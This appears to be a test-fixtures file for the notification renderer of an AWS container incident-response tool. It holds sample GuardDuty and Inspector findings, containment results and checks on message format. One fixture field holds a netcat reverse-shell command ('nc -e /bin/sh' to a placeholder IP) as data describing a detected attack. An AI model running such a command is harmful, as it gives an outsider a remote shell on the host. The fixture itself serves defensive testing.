/** Fixtures and invariants shared by the renderer's tests (test/unit/render-*.test.ts). */
import type { RuntimeFinding } from '../../lambdas/core/finding';
import type { ExposedTask, ResponseResults } from '../../lambdas/core/outcome';
import type { ResponsePlan, TaskEnrichment } from '../../lambdas/core/policy';
import {
  type ChatNotification,
  MESSAGE_MAX_BYTES,
  NOTIFICATION_KINDS,
  type NotificationInput,
  type NotificationKind,
  type RenderedNotification,
} from '../../lambdas/core/render';
import type { VulnerabilityFinding } from '../../lambdas/core/vulnerability';

// ---------------------------------------------------------------------------------------------------------
// Fixtures.

export const ACCOUNT = '123456789012';
export const REGION = 'us-east-1';
export const FINDING_ID = '9ac6f1e0b1d24c0f8a2b3c4d5e6f7a8b';
export const CLUSTER_ARN = `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/prod-cluster`;
export const TASK_ID = '0f1e2d3c4b5a69788796a5b4c3d2e1f0';
export const TASK_ARN = `arn:aws:ecs:${REGION}:${ACCOUNT}:task/prod-cluster/${TASK_ID}`;
export const DIGEST = `sha256:${'a'.repeat(64)}`;
export const EXECUTION_ARN = `arn:aws:states:${REGION}:${ACCOUNT}:execution:shield-right-runtime:${FINDING_ID}-1`;
export const IMAGE_URI = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/payments-api:1.4.2`;

export function runtimeFinding(overrides: Partial<RuntimeFinding> = {}): RuntimeFinding {
  return {
    kind: 'runtime',
    incidentId: FINDING_ID,
    findingId: FINDING_ID,
    findingArn: `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/12abc/finding/${FINDING_ID}`,
    type: 'Execution:Runtime/ReverseShell',
    title: 'Reverse shell opened by a process in a container',
    description: 'A process in task payments-api opened a reverse shell.',
    severity: 8,
    severityLabel: 'HIGH',
    accountId: ACCOUNT,
    region: REGION,
    partition: 'aws',
    count: 1,
    firstSeen: '2024-05-01T03:00:00.000Z',
    lastSeen: '2024-05-01T03:00:00.000Z',
    updatedAt: '2024-05-01T03:00:00.000Z',
    sample: false,
    cluster: { name: 'prod-cluster', arn: CLUSTER_ARN, tags: {} },
    hasTask: true,
    task: { arn: TASK_ARN, id: TASK_ID, serviceName: 'payments-api', launchType: 'FARGATE', tags: {} },
    containers: [
      {
        name: 'app',
        image: {
          uri: IMAGE_URI,
          registry: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`,
          repository: 'payments-api',
          tag: '1.4.2',
          ecr: { accountId: ACCOUNT, region: REGION },
        },
      },
    ],
    process: {
      name: 'nc',
      executablePath: '/usr/bin/nc',
      commandLine: 'nc -e /bin/sh 203.0.113.7 4444',
      pid: '4242',
      user: 'root',
      parent: { name: 'bash', executablePath: '/bin/bash', pid: '4200' },
    },
    eventId: 'evt-0001',
    ...overrides,
  };
}

export const enrichment: TaskEnrichment = {
  found: true,
  lastStatus: 'RUNNING',
  desiredStatus: 'RUNNING',
  launchType: 'FARGATE',
  networkMode: 'awsvpc',
  eniId: 'eni-0abc',
  privateIp: '10.0.1.23',
  containers: [{ name: 'app', image: IMAGE_URI, digest: DIGEST }],
  taskTags: {},
  service: {
    name: 'payments-api',
    arn: `arn:aws:ecs:${REGION}:${ACCOUNT}:service/prod-cluster/payments-api`,
    runningCount: 3,
    desiredCount: 3,
    tags: {},
  },
  clusterTags: {},
};

export function plan(overrides: Partial<ResponsePlan> = {}): ResponsePlan {
  return {
    incidentId: FINDING_ID,
    disposition: 'contain',
    path: 'act',
    isolate: true,
    stop: true,
    quarantine: true,
    tagService: true,
    quarantineStrategy: 'both',
    quarantineTargets: [],
    quarantineTag: 'quarantine-9ac6f1e0b1d2',
    stopReason: 'shield-right: GuardDuty HIGH finding',
    reasons: ['severity 8 (HIGH) is at or above the stop threshold 7'],
    skipped: [{ action: 'quarantine', reason: 'docker.io/library/redis:7 is not in a private ECR registry' }],
    wouldHaveDone: [],
    recommendations: [],
    claimKey: `CLAIM#TASK#${TASK_ARN}#stop`,
    digests: [DIGEST],
    band: 'high',
    capKeys: {
      cluster: 'CAP#CLUSTER',
      account: 'CAP#ACCOUNT',
      organization: 'CAP#ORGANIZATION',
      notice: 'CAPNOTICE#cluster',
    },
    caps: { cluster: 5, account: 20, organization: 40 },
    slots: { cluster: 4, account: 19, organization: 39 },
    window: { at: 1_764_000_000, since: 1_763_996_400 },
    ttl: 1_800_000_000,
    ...overrides,
  };
}

export const exposedTask = (i: number, serviceName = 'payments-api'): ExposedTask => ({
  taskArn: `arn:aws:ecs:${REGION}:${ACCOUNT}:task/prod-cluster/other${i}`,
  clusterArn: CLUSTER_ARN,
  serviceName,
  image: IMAGE_URI,
  digest: DIGEST,
});

export const containedResults: ResponseResults = {
  isolate: {
    status: 'done',
    method: 'security-group-rules-revoked',
    eniId: 'eni-0abc',
    securityGroupIds: ['sg-0123'],
    revokedRuleCount: 4,
    evidenceKey: `incidents/${FINDING_ID}/isolation.json`,
  },
  // What StopTask returns: the stop requested, the task not yet stopped.
  stop: { status: 'done', taskArn: TASK_ARN, lastStatus: 'RUNNING', desiredStatus: 'STOPPED' },
  quarantine: {
    status: 'done',
    images: [
      {
        repository: 'payments-api',
        registryId: ACCOUNT,
        digest: DIGEST,
        status: 'done',
        movedTags: [{ from: '1.4.2', to: 'quarantine-9ac6f1e0b1d2' }],
        archived: true,
      },
    ],
  },
  tagService: { status: 'done' },
  blastRadius: { tasks: [exposedTask(1), exposedTask(2)], scannedTasks: 48, truncated: false },
};

export const execution = { arn: EXECUTION_ARN, name: `${FINDING_ID}-1` };
export const evidence = {
  bucket: 'shield-right-evidence-123456789012',
  key: `incidents/${FINDING_ID}/finding.json`,
};

export function runtimeInput(
  kind: NotificationKind,
  overrides: Partial<NotificationInput> = {},
): NotificationInput {
  return {
    kind,
    finding: runtimeFinding(),
    enrichment,
    plan: plan(),
    execution,
    evidence,
    region: REGION,
    accountId: ACCOUNT,
    ...overrides,
  };
}

export function vulnerabilityFinding(overrides: Partial<VulnerabilityFinding> = {}): VulnerabilityFinding {
  return {
    kind: 'vulnerability',
    incidentId: `payments-api@${DIGEST}`,
    findingArn: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/0a1b2c3d4e5f`,
    accountId: ACCOUNT,
    region: REGION,
    partition: 'aws',
    status: 'ACTIVE',
    severity: 'CRITICAL',
    title: 'CVE-2024-3094 - xz-utils',
    vulnerabilityId: 'CVE-2024-3094',
    sourceUrl: 'https://nvd.nist.gov/vuln/detail/CVE-2024-3094',
    packages: [{ name: 'xz-utils', version: '5.6.0', fixedInVersion: '5.6.1', packageManager: 'OS' }],
    inspectorScore: 10,
    epssScore: 0.8731,
    exploitAvailable: 'YES',
    fixAvailable: 'YES',
    image: { registryId: ACCOUNT, repository: 'payments-api', digest: DIGEST, tags: ['1.4.2', 'latest'] },
    updatedAt: '2024-05-01T03:00:00.000Z',
    eventId: 'evt-insp-1',
    ...overrides,
  };
}

// ---------------------------------------------------------------------------------------------------------
// Invariants every rendered notification must keep.

export function allStrings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const item of value) allStrings(item, out);
  else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      out.push(key);
      allStrings(item, out);
    }
  }
  return out;
}

export function expectPublishable(rendered: RenderedNotification): void {
  // The message parses, carries both variants, and the chat variant is the chat object.
  const parsed = JSON.parse(rendered.message) as { default?: unknown; email?: unknown };
  expect(typeof parsed.default).toBe('string');
  expect(typeof parsed.email).toBe('string');
  expect(JSON.parse(String(parsed.default))).toEqual(rendered.chat);
  expect(parsed.email).toBe(rendered.email);
  expect(Buffer.byteLength(rendered.message, 'utf8')).toBeLessThan(256 * 1024);
  expect(Buffer.byteLength(rendered.message, 'utf8')).toBeLessThanOrEqual(MESSAGE_MAX_BYTES);

  // Subject: printable ASCII, one line, 1..99 characters.
  expect(rendered.subject).toMatch(/^[\x20-\x7E]{1,99}$/);

  // Chat: the documented shape and limits.
  const chat: ChatNotification = rendered.chat;
  expect(chat.version).toBe('1.0');
  expect(chat.source).toBe('custom');
  expect(chat.content.textType).toBe('client-markdown');
  expect(chat.content.title.length).toBeGreaterThan(0);
  expect(chat.content.title.length).toBeLessThanOrEqual(250);
  expect(chat.content.description.length).toBeLessThanOrEqual(8000);
  expect(chat.metadata.threadId.length).toBeGreaterThan(0);
  for (const step of chat.content.nextSteps) expect(step.length).toBeLessThanOrEqual(1000);

  // No live Slack markup anywhere in the chat JSON: no raw angle bracket at all.
  for (const s of allStrings(chat)) {
    expect(s).not.toContain('<!');
    expect(s).not.toContain('<@');
    expect(s).not.toContain('<http');
    expect(s).not.toMatch(/[<>]/);
  }

  // Attributes: SNS types, non-empty printable values, a numeric severity.
  for (const attribute of Object.values(rendered.attributes)) {
    expect(attribute.StringValue).toMatch(/^[\x20-\x7E]{1,256}$/);
  }
  expect(rendered.attributes.severity?.DataType).toBe('Number');
  expect(Number.isFinite(Number(rendered.attributes.severity?.StringValue))).toBe(true);
}

export const ALL_KINDS: readonly NotificationKind[] = NOTIFICATION_KINDS;
